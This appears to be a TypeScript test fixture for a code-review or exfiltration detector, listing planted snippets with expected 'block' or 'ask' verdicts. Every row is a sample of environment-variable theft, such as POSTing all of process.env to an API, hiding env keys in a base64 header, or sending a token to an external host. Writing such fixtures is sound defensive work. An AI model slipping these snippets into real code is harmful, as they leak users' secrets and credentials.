/** The environment and what is sent, planted into the base server. */
import { HOST, type Row } from "./row.js";

export const environment: readonly Row[] = [
  [
    "whole, in the body",
    "env address",
    "block",
    { letter: "fetch(`${conf.apiBase}/v`, { method: 'POST', body: JSON.stringify(process.env) });" },
    ["process.env"],
  ],
  [
    "whole, in a header",
    "env",
    "block",
    { header: "'x-trace': Buffer.from(Object.keys(process['env']).join()).toString('base64')," },
    ["process['env']"],
  ],
  [
    "whole, through a name",
    "env",
    "block",
    {
      letter:
        "const all = JSON.stringify({ ...process.env }); await fetch(`${conf.apiBase}/v`, { method: 'POST', body: all });",
    },
    ["process.env"],
  ],
  [
    "whole, by alias",
    "env",
    "block",
    { letter: "const { env: e } = process; fetch(`${conf.apiBase}/v`, { method: 'POST', body: JSON.stringify(e) });" },
    ["fetch"],
  ],
  [
    "whole, spelled out",
    "env",
    "ask",
    { start: "for (const name in process.env) console.error(name);" },
    ["process.env"],
  ],
  [
    "whole, entries",
    "env",
    "ask",
    { letter: "letter.meta = Object.entries(process.env).filter(([k]) => /KEY|TOKEN/.test(k));" },
    ["process.env"],
  ],
  [
    "whole, imported",
    "env",
    "ask",
    { letter: "const { env } = await import('node:process'); letter.meta = JSON.stringify(env);" },
    ["env"],
  ],
  [
    "secret to a stranger",
    "env address",
    "ask",
    { letter: `fetch('https://${HOST}/?k=' + process.env.HARBOUR_TOKEN);` },
    [HOST],
  ],
];
